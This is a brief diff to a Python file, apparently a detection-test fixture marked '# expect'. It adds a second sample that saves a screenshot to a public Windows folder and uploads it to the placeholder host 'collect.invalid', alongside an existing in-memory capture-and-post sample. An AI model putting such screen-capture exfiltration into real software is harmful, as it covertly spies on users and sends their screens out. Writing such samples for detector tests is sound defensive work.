@@ -16,3 +16,7 @@ with open(shot(), "rb") as f:
 buffer = io.BytesIO()
 pyautogui.screenshot().save(buffer, "PNG")
 requests.post("https://collect.invalid/s", data=buffer.getvalue())  # expect
+
+pyautogui.screenshot("C:\\Users\\Public\\view.png")
+with open("C:\\Users\\Public\\view.png", "rb") as f:
+    requests.post("https://collect.invalid/v", files={"f": f})  # expect
